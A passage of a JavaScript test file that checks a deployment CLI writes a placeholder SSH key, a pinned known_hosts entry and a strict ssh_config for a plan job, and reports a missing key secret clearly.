  return parsePlan(name, fs.readFileSync(path.join(root, 'test', 'fixtures', 'plans', `${fixture}.json`), 'utf8'));
}

describe('the plan job installs its SSH access (the old plan job never did)', () => {
  const cli = path.join(root, 'dist', 'scripts', 'pr-plan.js');
  it('writes each host\'s plan key, the pinned known_hosts and an ssh_config that uses only them', () => {
    const home = tempDir();
    const r = spawnSync(process.execPath, [cli, 'ssh', 'production'], { cwd: root, encoding: 'utf8', env: { ...process.env, HOME: home, STACKYARD_PLAN_SSH_KEY_CORE: '-----BEGIN OPENSSH PRIVATE KEY-----\nfake\n-----END OPENSSH PRIVATE KEY-----' } });
    expect(r.stderr).toBe('');
    expect(r.status).toBe(0);
    const dir = path.join(home, '.ssh', 'stackyard-plan');
    expect(fs.statSync(path.join(dir, 'core')).mode & 0o777).toBe(0o600);
    expect(fs.readFileSync(path.join(dir, 'core'), 'utf8')).toMatch(/fake\n-----END OPENSSH PRIVATE KEY-----\n$/);
    const hostKey = loadEnvironment(path.join(root, 'environments', 'production.yaml')).config.hosts.core.hostKey;
    expect(fs.readFileSync(path.join(dir, 'known_hosts'), 'utf8')).toBe(`core.example.com ${hostKey}\n`);
    expect(fs.readFileSync(path.join(home, '.ssh', 'config'), 'utf8')).toContain(`Host core.example.com\n  User deploy\n  Port 22\n  IdentityFile ${path.join(dir, 'core')}\n  IdentitiesOnly yes\n  StrictHostKeyChecking yes\n  UserKnownHostsFile ${path.join(dir, 'known_hosts')}`);
  });
  it('names the missing secret', () => {
    const r = spawnSync(process.execPath, [cli, 'ssh', 'staging'], { cwd: root, encoding: 'utf8', env: { ...process.env, HOME: tempDir(), STACKYARD_PLAN_SSH_KEY_CORE: '' } });
    expect(r.status).toBe(1);
    expect(r.stderr).toBe('pr-plan: secret STACKYARD_PLAN_SSH_KEY_CORE is not set in the staging-plan environment: the plan identity\'s SSH key for host core (see npm run plan-identity)\n');
  });
});
